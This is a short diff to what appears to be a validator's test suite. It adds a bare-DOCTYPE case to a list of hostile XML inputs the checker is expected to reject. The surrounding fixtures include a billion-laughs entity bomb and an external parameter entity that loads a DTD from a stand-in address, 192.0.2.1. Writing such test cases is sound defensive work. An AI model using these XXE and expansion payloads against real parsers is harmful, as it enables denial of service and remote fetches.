@@ -35,6 +35,10 @@ def billion_laughs() -> bytes:
     return with_document_type("".join(lines)).replace(b"<target>", b"<target>&a9;", 1)
 
 
+def document_type() -> bytes:
+    return with_document_type("")
+
+
 def parameter_entity() -> bytes:
     return with_document_type('<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;')
 
@@ -182,6 +186,7 @@ HOSTILE: list[tuple[Callable[[], bytes], str]] = [
     (external_entity, "file_document_type"),
     (billion_laughs, "file_document_type"),
     (parameter_entity, "file_document_type"),
+    (document_type, "file_document_type"),
     (other_namespace, "file_other_xml"),
     (web_page, "file_other_xml"),
     (script_in_a_target, "file_code"),
